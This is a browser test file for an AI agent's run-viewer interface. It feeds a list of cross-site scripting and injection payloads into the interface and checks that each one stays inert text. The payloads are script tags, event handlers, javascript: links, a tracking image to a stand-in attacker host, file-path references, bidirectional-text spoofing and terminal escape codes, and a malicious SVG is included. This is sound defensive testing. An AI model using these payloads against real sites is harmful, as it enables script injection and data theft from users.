import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import type { RunEventDraft } from '#contract/events/run-event.ts';
import { chromiumNote, chromiumPath } from '../setup/chromium.ts';
import { useChromium } from '../setup/use-window.ts';
import { watchPage } from '../setup/window-harness.ts';

/**
 * Whatever a model, a tool or a file name says is text. Each of these would run a script, make a
 * request or leave the page, if any of it became a part of the page.
 */
const PAYLOADS = [
  '<script>globalThis.pwned = 1</script>',
  '<img src=x onerror="globalThis.pwned=1">',
  '<svg onload="globalThis.pwned=1"><script>globalThis.pwned=1</script></svg>',
  '<iframe src="javascript:parent.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="https://attacker.invalid/o"></object><embed src="https://attacker.invalid/e">',
  '<link rel=stylesheet href="https://attacker.invalid/c"><style>@import "https://attacker.invalid/i"</style>',
  '<meta http-equiv=refresh content="0;url=https://attacker.invalid/m"><base href="https://attacker.invalid/">',
  '<form action="https://attacker.invalid/f"><button autofocus onfocus="globalThis.pwned=1">go</button></form>',
  '<video autoplay src="https://attacker.invalid/v" onerror="globalThis.pwned=1"></video>',
  '<div style="background:url(https://attacker.invalid/b)" onclick="globalThis.pwned=1">div</div>',
  '![track](https://attacker.invalid/t.png?secret=1)',
  '![svg](data:image/svg+xml,<svg onload=alert(1)>) ![js](javascript:alert(1))',
  '[click](javascript:globalThis.pwned=1) [data](data:text/html,<script>alert(1)</script>)',
  '[auto](<java\nscript:alert(1)>) [upper](JAVASCRIPT:alert`1`) <javascript:alert(1)>',
  '[ref][x]\n\n[x]: javascript:globalThis.pwned=1 "title"',
  '[file](file:///etc/passwd) [unc](\\\\attacker.invalid\\share) [rel](//attacker.invalid/r)',
  'https://attacker.invalid/autolinked <https://attacker.invalid/angle> www.attacker.invalid',
  '```html\n<script>globalThis.pwned=1</script>\n```',
  '`<img src=x onerror=alert(1)>` {{constructor.constructor("alert(1)")()}} ${alert(1)}',
  '| <script>alert(1)</script> | ![t](https://attacker.invalid/cell) |\n|---|---|\n| <b onmouseover=alert(1)>x</b> | y |',
  '\u202egnp.exe\u202c <a href="https://attacker.invalid" target=_top>a</a>',
  '\u001b]8;;https://attacker.invalid/osc\u0007link\u001b]8;;\u0007 \u001b]0;title\u0007\u001b[2J\u001bc',
  '"><script>globalThis.pwned=1</script>',
  '\'-alert(1)-\' " onmouseover=alert(1) x="',
];
const ALL = PAYLOADS.join('\n\n');

const HOSTILE_RUN: RunEventDraft[] = [
  { type: 'stage', name: 'x', status: 'running', description: ALL },
  { type: 'reasoning', messageId: 'm', text: ALL },
  ...PAYLOADS.map(
    (text): RunEventDraft => ({ type: 'token', messageId: 'm', text: `${text}\n\n` }),
  ),
  {
    ...{ type: 'tool_call', toolCallId: 'c1', name: ALL, arguments: { [ALL]: ALL, code: ALL } },
    ...{ risk: 'high', effect: 'opaque', agent: 'executor', round: 1 },
  },
  { type: 'terminal_command', commandId: 'k', command: ALL, language: 'bash', cwd: ALL },
  { type: 'terminal_output', commandId: 'k', offset: 0, text: ALL },
  { type: 'terminal_error', commandId: 'k', offset: 0, text: ALL },
  { type: 'terminal_complete', commandId: 'k', outcome: 'completed', exitCode: 0, durationMs: 1 },
  {
    ...{ type: 'code_result', toolCallId: 'c1', language: 'python', outcome: 'completed' },
    ...{ exitCode: 1, stdout: ALL, stderr: ALL, durationMs: 1 },
  },
  {
    type: 'tool_result',
    toolCallId: 'c1',
    name: ALL,
    status: 'error',
    content: ALL,
    durationMs: 1,
  },
  ...PAYLOADS.map(
    (path): RunEventDraft => ({
      type: 'workspace_update',
      operation: 'create',
      path,
      size: 1,
      origin: 'c1',
    }),
  ),
  { type: 'image', index: 0, path: 'evil.svg', mimeType: 'image/svg+xml', bytes: 1, alt: ALL },
  {
    type: 'image',
    index: 1,
    path: 'https://attacker.invalid/p.png',
    mimeType: 'image/png',
    bytes: 1,
    alt: ALL,
  },
  { type: 'source', index: 1, url: 'javascript:alert(1)', title: ALL },
  { type: 'plan_step', stepId: 's', title: ALL, status: 'running', detail: ALL },
  {
    ...{ type: 'interrupt', interruptId: 'q', kind: 'approval', title: ALL, message: ALL },
    ...{ toolCallId: 'c2', toolName: ALL, risk: 'high', reasons: PAYLOADS, options: [] },
    ...{ argumentsText: JSON.stringify({ code: ALL }), argumentsSha256: 'ab'.repeat(32) },
    ...{ rulePattern: ALL, attentionMs: 1000 },
  },
];

const EVIL_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9" onload="parent.pwned=1"><script>parent.pwned=1</script><image x:href="https://attacker.invalid/svg.png"/></svg>';

describe.skipIf(chromiumPath === null)(`hostile text in the window${chromiumNote}`, () => {
  const chromium = useChromium();
  let page: Page;
  let trouble: string[];

  beforeAll(async () => {
    page = await chromium.browser.newPage({ viewport: { width: 1300, height: 2400 } });
    trouble = watchPage(page, chromium.url);
    page.on('popup', (popup) => trouble.push(`popup: ${popup.url()}`));
    await page.goto(chromium.url);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await page.evaluate(
      ({ run, svg, all, payloads }) => {
        const { fake } = globalThis;
        const first = fake.state.runs[0];
        const thread = fake.state.threads.find(({ id }) => id === 't-run');
        if (first === undefined || thread === undefined) throw new Error('no history');
        thread.title = all;
        fake.state.files.set('evil.svg', {
          mimeType: 'image/svg+xml',
          encoding: 'utf8',
          data: svg,
        });
        fake.state.files.set('evil.html', { mimeType: 'text/html', encoding: 'utf8', data: all });
        fake.state.files.set('evil.csv', { mimeType: 'text/csv', encoding: 'utf8', data: all });
        for (const path of payloads) {
          fake.state.files.set(path, { mimeType: 'text/plain', encoding: 'utf8', data: all });
        }
        fake.addLog(
          { ...first, id: 'evil', threadId: 't-run', status: 'waiting', prompt: all },
          run,
        );
        fake.push({ kind: 'thread_changed', thread });
      },
      { run: HOSTILE_RUN, svg: EVIL_SVG, all: ALL, payloads: PAYLOADS },
    );
    await page.evaluate(`location.hash = '#/task/t-run'`);
    await page.getByRole('button', { name: 'Approve once' }).waitFor();
  });

  /** Elements that must not be in the page, and effects that must not have happened. */
  const damage = () =>
    page.evaluate(`({
      pwned: globalThis.pwned,
      scripts: [...document.scripts].filter((script) => !script.src.startsWith(location.origin)).length,
      frames: document.querySelectorAll('iframe, object, embed, frame, video, audio, base, meta[http-equiv]').length,
      links: [...document.querySelectorAll('a[href], area[href]')].filter((link) => !/^(https?:|mailto:|blob:)/.test(link.href)).length,
      remote: [...document.images].filter((image) => !/^(blob:|data:image\\/(png|jpeg|gif|webp))/.test(image.src)).length,
      forms: document.querySelectorAll('form[action]').length,
      handlers: [...document.querySelectorAll('*')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on'))).length,
    })`);
  const NONE = { scripts: 0, frames: 0, links: 0, remote: 0, forms: 0, handlers: 0 };

  it('stays text in the conversation, from its first row to its last', async () => {
    const list = page.getByRole('region', { name: 'Conversation' });
    const height = await list.evaluate((element) => element.scrollHeight);
    for (let top = 0; top < height + 2000; top += 700) {
      await list.evaluate((element, to) => element.scrollTo(0, to), top);
      await drawn(page);
      expect(await damage()).toEqual(NONE);
    }
    await list.evaluate((element) => element.scrollTo(0, 0));
    await drawn(page);
    for (const card of await page.locator('.disclosure-trigger').all()) await card.click();
    await page.waitForTimeout(300);
    expect(await damage()).toEqual(NONE);
  });

  it('stays text in the question, with what is hidden made visible', async () => {
    const question = page.locator('.question');
    expect(await question.innerText()).toContain('⟨U+202E⟩gnp.exe⟨U+202C⟩');
    await page.getByRole('button', { name: 'Always approve…' }).click();
    expect(await damage()).toEqual(NONE);
    await page.getByRole('button', { name: 'Back', exact: true }).click();
  });

  it('opens no link by itself, and shows the address before it opens one', async () => {
    const list = page.getByRole('region', { name: 'Conversation' });
    const pressed = new Set<string>();
    let shown: unknown = null;
    const height = await list.evaluate((element) => element.scrollHeight);
    for (let top = 0; top < height; top += 400) {
      await list.evaluate((element, to) => element.scrollTo(0, to), top);
      await drawn(page);
      for (const [index, name] of (await linkNames(page)).entries()) {
        if (pressed.has(name)) continue;
        pressed.add(name);
        await page.evaluate(
          `document.querySelectorAll('.transcript button.link')[${index}].click()`,
        );
        // The previous popover may still be fading out.
        const open = page.getByRole('link', { name: 'Open in browser' }).last();
        if (name === 'https://attacker.invalid/angle') {
          shown = [await open.getAttribute('href'), await open.getAttribute('rel')];
        }
        await page.keyboard.press('Escape');
      }
    }
    expect([...pressed].filter((name) => !name.includes('attacker.invalid'))).toEqual([]);
    expect(shown).toEqual(['https://attacker.invalid/angle', 'noopener noreferrer']);
  });

  it('stays text in the terminal, which it can neither clear nor title', async () => {
    await page.getByRole('tab', { name: 'Terminal' }).click();
    await page.locator('.xterm-rows').getByText('globalThis.pwned').first().waitFor();
    expect(await page.title()).not.toBe('title');
    expect(await damage()).toEqual(NONE);
  });

  it.each(['evil.html', 'evil.csv', 'evil.svg'])('stays text in the viewer: %s', async (name) => {
    await page.getByRole('tab', { name: 'Files' }).click();
    await page.getByRole('button', { name: new RegExp(`^${name}`) }).click();
    await page.getByRole('heading', { name }).waitFor();
    await page.waitForTimeout(300);
    expect(await damage()).toEqual(NONE);
    await page.getByRole('button', { name: 'All files' }).click();
  });

  it('runs nothing when a file is opened by its address, in a tab of its own', async () => {
    await page.getByRole('button', { name: /^evil\.svg/ }).click();
    await page.getByRole('heading', { name: 'evil.svg' }).waitFor();
    const opened = page.context().waitForEvent('page');
    // As by "Open image in a new tab".
    await page.evaluate(`void window.open(document.querySelector('img.file-image').src)`);
    const tab = await opened;
    await tab.waitForLoadState();
    await tab.waitForTimeout(300);
    const seen = await tab.evaluate(`[document.documentElement.tagName, globalThis.pwned]`);
    await tab.close();
    await page.getByRole('button', { name: 'All files' }).click();
    expect(seen).toEqual(['svg', undefined]);
    // The user opened it; nothing else may have.
    expect(trouble.splice(0).filter((what) => !/^popup: blob:|^error: .*svg/.test(what))).toEqual(
      [],
    );
  });

  it('ran nothing, asked for nothing, and went nowhere', async () => {
    expect({ trouble, url: page.url() }).toEqual({
      trouble: [],
      url: `${chromium.url}#/task/t-run`,
    });
  });
});

function linkNames(page: Page): Promise<string[]> {
  return page.evaluate(
    `[...document.querySelectorAll('.transcript button.link')].map((link) => link.textContent)`,
  );
}

/** Resolves once the window has drawn its last update: the scroll event, and the rows that follow from it. */
async function drawn(page: Page): Promise<void> {
  await page.evaluate(`(async () => {
    for (let i = 0; i < 4; i += 1) await new Promise((frame) => requestAnimationFrame(frame));
  })()`);
}
